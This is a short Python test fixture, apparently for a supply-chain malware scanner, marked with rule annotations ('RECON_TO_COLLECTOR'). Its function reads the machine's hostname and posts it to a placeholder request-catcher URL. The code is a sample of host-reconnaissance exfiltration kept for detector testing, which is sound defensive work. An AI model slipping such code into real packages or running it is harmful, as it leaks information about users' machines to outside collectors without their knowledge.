# canary-test: path=poc/my_module.py artifact=sdist
# Host profile posted to a request catcher from a function (inert id).
import socket

import requests


def main():
    # ruleid: RECON_TO_COLLECTOR
    hostname = socket.gethostname()
    data = {"hostname": hostname}
    # ruleid: RECON_TO_COLLECTOR
    server_url = "https://inert000.m.pipedream.net/poc"
    # ruleid: RECON_TO_COLLECTOR
    requests.post(server_url, json=data)
# ok: IMPORT_TIME_RECON
